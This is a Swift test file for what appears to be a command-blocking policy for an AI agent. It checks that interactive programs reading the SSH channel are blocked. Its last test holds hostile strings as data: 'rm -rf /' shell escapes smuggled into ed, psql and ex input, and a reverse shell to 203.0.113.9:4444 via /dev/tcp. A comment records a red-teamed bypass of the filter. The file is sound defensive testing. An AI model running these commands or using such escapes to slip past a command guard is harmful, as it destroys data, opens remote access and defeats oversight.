import AgentPolicy
import XCTest

/// Programs that take commands from the SSH channel and can start a shell from them
/// (`Rules/ChannelReaderRules.swift`): blocked when nothing else gives them their commands.
final class ChannelReaderTests: XCTestCase {
    func testReadingTheChannel() {
        assertVerdicts([
            ("ed /etc/motd", .block(.interactiveReadsChannel)), ("vim notes.txt", .block(.interactiveReadsChannel)),
            ("psql -h db1 app", .block(.interactiveReadsChannel)), ("mysql -u root", .block(.interactiveReadsChannel)),
            ("sqlite3 app.db", .block(.interactiveReadsChannel)), ("gdb ./server", .block(.interactiveReadsChannel)),
            ("ftp mirror.example.org", .block(.interactiveReadsChannel)),
            ("sftp ops@203.0.113.4", .block(.interactiveReadsChannel)),
            ("debugfs /dev/sda1", .block(.interactiveReadsChannel)), ("nmap --interactive", .block(.interactiveReadsChannel)),
            ("screen", .block(.shellInteractive)), ("tmux", .block(.shellInteractive)),
        ])
    }

    /// Commands given by option, argument, file or pipe: judged as before.
    func testCommandsGivenOtherwise() {
        assertVerdicts([
            ("psql -c 'select count(*) from users'", .allow), ("psql -f migrate.sql app", .allow),
            ("mysql -e 'show databases'", .allow), ("mysql app < dump.sql", .allow),
            ("sqlite3 app.db 'select 1'", .allow), ("gdb -batch -ex bt ./server core", .allow),
            ("ed -s notes.txt < edits.ed", .allow), ("printf ',p\\nq\\n' | ed -s notes.txt", .allow),
            ("sftp -b batch.txt ops@203.0.113.4", .allow), ("debugfs -R 'stat /etc' /dev/sda1", .allow),
            ("screen -dmS job make", .allow), ("tmux -V", .allow), ("screen -ls", .allow),
        ])
    }

    /// Shell escapes in input the command line shows are judged as code (found by red-teaming:
    /// `ed f <<< '!rm -rf /'` was allowed); other input lines are the program's own commands.
    func testShellEscapesInVisibleInput() {
        assertVerdicts([
            ("ed /etc/hosts <<< '!rm -rf /'", .block(.rmRoot)), ("printf '!rm -rf /etc\\n' | ed", .block(.rmRecursiveSystemPath)),
            ("ed -s notes.txt <<EOF\n,p\n!rm -rf /usr\nq\nEOF", .block(.rmRecursiveSystemPath)),
            ("psql <<< '\\! rm -rf /'", .block(.rmRoot)), ("ex -s x <<< ':!rm -rf /'", .block(.rmRoot)),
            ("gdb -batch <<< 'shell bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", .block(.networkDevTcp)),
            ("ed -s notes.txt <<< ',p'", .allow), ("printf '!ls\\n' | ftp", .allow),
        ])
    }
}
